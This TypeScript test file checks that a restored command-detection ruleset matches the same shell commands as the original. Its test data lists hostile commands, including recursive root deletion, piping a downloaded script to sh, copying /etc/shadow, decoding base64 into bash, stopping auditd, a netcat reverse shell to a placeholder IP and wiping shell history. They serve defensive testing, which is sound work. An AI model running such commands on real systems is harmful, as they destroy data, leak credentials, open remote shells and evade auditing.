import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { restoreRules } from "./index.js";
import { commandFor, compileForTest, hitsOf, packOf, someSubject } from "./rules.testing.js";

const LINES = [
  "ls -la /var/log",
  "rm -rf /",
  'rm -rf "$x"',
  "sudo rm -rf --no-preserve-root /",
  "curl -s https://example.org/x.sh | sh",
  "cat /etc/shadow > /tmp/x",
  "chmod -R 777 /etc",
  "echo c2VjcmV0 | base64 -d | bash",
  "systemctl stop auditd",
  "nc -e /bin/sh 192.0.2.1 4444",
  "history -c && unset HISTFILE",
  "cat prod-secret-7",
  "psql -h db-1",
  "((",
];

const OWN = packOf(
  `  - id: own-list
    name: a listed program
    match: { command: { exec: { list: clients } } }
    action: block
  - id: own-regex
    name: a text
    match: { command: { raw: { regex: "secret-[0-9]$" } } }
    action: alert
`,
  "lists: { clients: [psql, mysql] }",
);

describe("a ruleset that went to another process", () => {
  const made = compileForTest(readFileSync("config/rules/linux.yaml", "utf8"), OWN);
  const restored = restoreRules(structuredClone(made.checked));

  it("is the same set", () => {
    expect(restored.digest).toBe(made.digest);
    expect(restored.size).toBe(made.size);
    expect(restored.rules).toEqual(made.rules);
    expect(restored.enforces(someSubject())).toBe(true);
  });

  it.each(LINES)("says the same about: %s", (line) => {
    expect(hitsOf(restored, line)).toEqual(hitsOf(made, line));
    const command = commandFor(line);
    const subject = someSubject();
    expect(restored.doubts(command, subject)).toEqual(made.doubts(command, subject));
  });

  it("still finds what lists and expressions of the files look for", () => {
    expect(hitsOf(restored, "psql").map((hit) => hit.rule.id)).toContain("own-list");
    expect(hitsOf(restored, "cat secret-7").map((hit) => hit.rule.id)).toContain("own-regex");
  });
});
